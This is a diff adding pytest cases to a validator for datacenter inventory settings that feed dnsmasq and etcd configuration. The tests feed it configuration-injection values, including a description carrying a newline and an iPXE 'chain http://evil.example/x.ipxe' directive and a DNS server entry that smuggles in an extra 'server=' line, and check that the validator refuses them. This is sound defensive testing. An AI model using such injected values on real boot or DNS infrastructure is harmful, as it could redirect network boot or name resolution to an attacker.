@@ -285,3 +285,33 @@ def test_description_must_be_one_line(example: Any) -> None:
     assert problems_of(hostvars, groups) == [
         "r640: dc_description='rack 3\\nchain http://evil.example/x.ipxe': control characters or line breaks not allowed: '\\n'"
     ]
+
+
+HOSTILE_GLOBALS = ["dc\nx", "dc\rx", "dc\x00x", 'dc"x', "dc'x", "dc#x", "dc;x", "dc x", "dc,x", "nœud.dc", "x" * 5000]
+
+
+@pytest.mark.parametrize("value", HOSTILE_GLOBALS, ids=range(len(HOSTILE_GLOBALS)))
+def test_hostile_domain_is_refused(example: Any, value: str) -> None:
+    """dc_domain goes into dnsmasq's domain=, local=/…/ and dhcp-option, etcd's cluster token and paths."""
+    hostvars, groups = example
+    set_global(hostvars, "dc_domain", value)
+    problems = problems_of(hostvars, groups)
+    assert any(p.startswith("global: dc_domain=") and "not a DNS name" in p for p in problems), problems
+
+
+@pytest.mark.parametrize("key", ["dc_dns_servers", "dc_ntp_servers"])
+@pytest.mark.parametrize("value", ["10.42.64.1\nserver=10.0.0.66", "10.42.64.1,10.0.0.66", "10.42.64.1#53 x", "10.42.64.1\x00", 'a"b'])
+def test_hostile_resolver_addresses_are_refused(example: Any, key: str, value: str) -> None:
+    """dc_dns_servers become dnsmasq server= lines: an address, nothing else."""
+    hostvars, groups = example
+    set_global(hostvars, key, ["10.42.64.1", value])
+    problems = problems_of(hostvars, groups)
+    assert any(p.startswith(f"global: {key}=") for p in problems), problems
+    assert len([p for p in problems if key in p]) == 1, problems
+
+
+def test_resolver_and_ntp_addresses_that_pass(example: Any) -> None:
+    hostvars, groups = example
+    set_global(hostvars, "dc_dns_servers", ["10.42.64.1", "2001:db8::53"])
+    set_global(hostvars, "dc_ntp_servers", ["10.42.64.1", "pool.ntp.org"])
+    build_model(hostvars, groups)
